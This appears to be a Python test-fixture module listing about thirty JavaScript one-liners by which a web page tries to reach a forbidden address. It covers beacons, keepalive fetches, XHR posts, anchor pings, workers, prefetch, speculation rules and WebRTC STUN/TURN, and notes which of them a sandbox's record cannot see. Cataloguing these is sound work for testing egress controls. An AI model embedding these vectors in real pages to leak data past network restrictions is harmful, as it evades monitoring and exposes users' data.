"""Ways in which a page tries to reach `url`, a forbidden address: scripts that run in it, by name."""

# How a page tries to get out, and the kind under which the fence's record has it (None: nothing of it can be seen).
ATTACKS: dict[str, tuple[str | None, str]] = {
    "link": ("navigation", "location = url"),
    "popup": ("navigation", "window.open(url)"),
    "form": ("navigation", "document.body.innerHTML = `<form method=post action=${url}>`; document.forms[0].submit()"),
    "frame": ("navigation", "document.body.innerHTML = `<iframe src=${url}>`"),
    "meta refresh": ("navigation", "document.head.innerHTML = `<meta http-equiv=refresh content='0;url=${url}'>`"),
    "object": ("navigation", "document.body.innerHTML = `<object data=${url}>`"),
    "image": ("image", "new Image().src = url"),
    "script": ("script", "document.body.append(Object.assign(document.createElement('script'), {src: url}))"),
    "style": ("stylesheet", "document.body.innerHTML = `<link rel=stylesheet href=${url}>`"),
    "font": ("font", "new FontFace('x', `url(${url})`).load().catch(() => 0)"),
    "media": ("media", "new Audio(url).play().catch(() => 0)"),
    "fetch": ("fetch", "fetch(url, {mode: 'no-cors'}).catch(() => 0)"),
    "keepalive": ("fetch", "fetch(url, {method: 'POST', keepalive: true, mode: 'no-cors'}).catch(() => 0)"),
    "xhr": ("xhr", "const x = new XMLHttpRequest(); x.open('POST', url); x.send('x')"),
    "beacon": ("ping", "navigator.sendBeacon(url, 'x')"),
    "anchor ping": (None, "document.body.innerHTML = `<a id=p href=# ping=${url}>x</a>`; p.click()"),
    "event source": ("eventsource", "new EventSource(url)"),
    "web socket": ("websocket", "new WebSocket(url.replace('http', 'ws'))"),
    "redirect": ("redirect", "fetch('/redirect', {mode: 'no-cors'}).catch(() => 0)"),
    "redirected page": ("redirect", "location = '/redirect'"),
    "worker": ("fetch", "new Worker(source(`fetch('${url}', {mode: 'no-cors'})`))"),
    "worker's socket": (None, "new Worker(source(`new WebSocket('${url}'.replace('http', 'ws'))`))"),
    "shared worker": (None, "new SharedWorker('/worker.js')"),
    "service worker": (None, "navigator.serviceWorker.register('/worker.js').catch(() => 0)"),
    "prefetch": (
        None,
        (
            "const rels = 'prefetch preconnect dns-prefetch prerender preload manifest icon'.split(' '); "
            "document.head.innerHTML = rels.map(rel => `<link rel=${rel} as=fetch href=${url}>`).join('')"
        ),
    ),
    "speculation": (
        None,
        (
            "const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify("
            "{prefetch: [{source: 'list', urls: [url]}], prerender: [{source: 'list', urls: [url]}]}); "
            "document.head.append(s)"
        ),
    ),
    "answer's headers": (None, "fetch('/reporting'); location = '/reporting'"),
    "stun and turn": (
        None,
        (
            "const servers = ['stun:HOST', 'turn:HOST?transport=tcp', 'turn:HOST'].map(u => u.replace('HOST', host)); "
            "const c = new RTCPeerConnection({iceServers: [{urls: servers, username: 'a', credential: 'b'}]}); "
            "c.createDataChannel('x'); c.createOffer().then(o => c.setLocalDescription(o))"
        ),
    ),
    "web transport": (None, "new WebTransport(`https://${host}/`).ready.catch(() => 0)"),
}
